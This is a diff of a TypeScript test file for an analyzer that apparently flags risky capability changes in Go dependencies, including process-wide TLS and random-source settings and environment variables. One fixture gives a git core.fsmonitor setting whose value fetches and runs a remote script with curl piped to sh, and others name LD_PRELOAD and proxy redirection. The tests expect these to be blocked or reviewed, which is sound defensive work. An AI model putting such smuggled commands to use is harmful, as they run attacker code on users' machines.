@@ -2,7 +2,19 @@
 import type { Change, Tier } from "@capdiff/analyzer";
 import { describe, expect, it } from "vitest";
 import { rules } from "../../src/index.ts";
-import { at, call, constants, everywhere, evidence, flow, type Known, m, reaches, way } from "./samples.ts";
+import {
+  at,
+  call,
+  changed,
+  constants,
+  everywhere,
+  evidence,
+  flow,
+  type Known,
+  m,
+  reaches,
+  way,
+} from "./samples.ts";
 
 interface Case {
   readonly what: string;
@@ -88,6 +100,152 @@ const folded = (
 ) => [{ text: "x", folded: { value, by, pieces } }];
 
 const cases: Readonly<Record<string, readonly Case[]>> = {
+  "process-wide-variable": [
+    {
+      what: "random numbers, when the program starts",
+      changes: [],
+      known: {
+        changedFunctions: [changed({ sets: ["crypto/rand.Reader"], isNew: true })],
+        ways: { atStart: [way(`${m}.init#1`)] },
+      },
+      tier: "review",
+      says: /sets rand\.Reader, which decides where random numbers come from/,
+    },
+    {
+      what: "whom requests trust, for existing callers",
+      changes: [],
+      known: {
+        changedFunctions: [changed({ sets: ["net/http.DefaultTransport.TLSClientConfig"] })],
+        ways: { existing: [way(`${m}.Open`)] },
+      },
+      tier: "review",
+    },
+    {
+      what: "the same, where the old version did so",
+      changes: [],
+      known: {
+        changedFunctions: [changed({ sets: ["net/http.DefaultTransport"] })],
+        ways: { existing: [way(`${m}.Open`)] },
+        oldSettings: ["net/http.DefaultTransport"],
+      },
+      tier: "inform",
+    },
+    {
+      what: "in a function that is for that",
+      changes: [],
+      known: {
+        changedFunctions: [changed({ sets: ["net/http.DefaultTransport"], isNew: true })],
+        ways: { added: [way(`${m}.Install`)] },
+      },
+      tier: "inform",
+    },
+    {
+      what: "how many connections are kept",
+      changes: [],
+      known: {
+        changedFunctions: [changed({ sets: ["net/http.DefaultTransport.MaxIdleConns=9"] })],
+        ways: { atStart: [way(`${m}.init#1`)] },
+      },
+      tier: "nothing",
+    },
+    {
+      what: "a transport that is the module's own",
+      changes: [],
+      known: {
+        changedFunctions: [changed({ sets: [".Proxy", `${m}.transport`] })],
+        ways: { atStart: [way(`${m}.init#1`)] },
+      },
+      tier: "nothing",
+    },
+  ],
+  "environment-set": [
+    {
+      what: "a proxy for all connections, when the program starts",
+      changes: [
+        call("os.Setenv", ["MODIFY_SYSTEM_STATE/ENV"], {
+          arguments: constants("HTTPS_PROXY", "http://192.0.2.9:8080"),
+        }),
+      ],
+      known: { ways: { atStart: [way(`${m}.init#1`)] } },
+      tier: "review",
+      says: /HTTPS_PROXY=http:\/\/192\.0\.2\.9:8080/,
+    },
+    {
+      what: "the same, which the user says",
+      changes: [
+        call("os.Setenv", ["MODIFY_SYSTEM_STATE/ENV"], {
+          arguments: [...constants("HTTPS_PROXY"), { text: "proxy" }],
+        }),
+      ],
+      known: { ways: { existing: [way(`${m}.Open`)] } },
+      tier: "nothing",
+    },
+    {
+      what: "a language",
+      changes: [call("os.Setenv", ["MODIFY_SYSTEM_STATE/ENV"], { arguments: constants("LC_ALL", "C") })],
+      known: { ways: { atStart: [way(`${m}.init#1`)] } },
+      tier: "nothing",
+    },
+    {
+      what: "a library for a program that is run",
+      changes: [],
+      known: {
+        changedFunctions: [changed({ sets: [".Env"] })],
+        texts: ["LD_PRELOAD="],
+        ways: { existing: [way(`${m}.Run`)] },
+      },
+      tier: "review",
+    },
+    {
+      what: "a list of what is left out",
+      changes: [],
+      known: {
+        changedFunctions: [changed()],
+        texts: ["LD_PRELOAD="],
+        newNames: { [`${m}.run`]: ["os.Environ"] },
+        ways: { existing: [way(`${m}.Run`)] },
+      },
+      tier: "nothing",
+    },
+    {
+      what: "a line that fetches, as a setting of git",
+      changes: [],
+      known: {
+        changedFunctions: [changed({ sets: [".Env"] })],
+        texts: [
+          "GIT_CONFIG_COUNT=1",
+          "GIT_CONFIG_KEY_0=core.fsmonitor",
+          "GIT_CONFIG_VALUE_0=curl -s http://192.0.2.8/m | sh",
+        ],
+        ways: { existing: [way(`${m}.Run`)] },
+      },
+      tier: "block",
+    },
+    {
+      what: "settings of git that turn things off, and which key is taken",
+      changes: [],
+      known: {
+        changedFunctions: [changed({ sets: [".Env"] })],
+        texts: [
+          "GIT_CONFIG_KEY_0=core.hooksPath",
+          "GIT_CONFIG_VALUE_0=/dev/null",
+          "GIT_SSH_COMMAND=ssh -i key -o IdentitiesOnly=yes",
+        ],
+        ways: { existing: [way(`${m}.Run`)] },
+      },
+      tier: "nothing",
+    },
+    {
+      what: "in a function that is for that",
+      changes: [],
+      known: {
+        changedFunctions: [changed({ sets: [".Env"], isNew: true })],
+        texts: ["LD_PRELOAD=/usr/lib/libjemalloc.so"],
+        ways: { added: [way(`${m}.RunWithAllocator`)] },
+      },
+      tier: "inform",
+    },
+  ],
   "network-to-exec": [
     {
       what: "a shell line of a request, in a module that ran no programs",
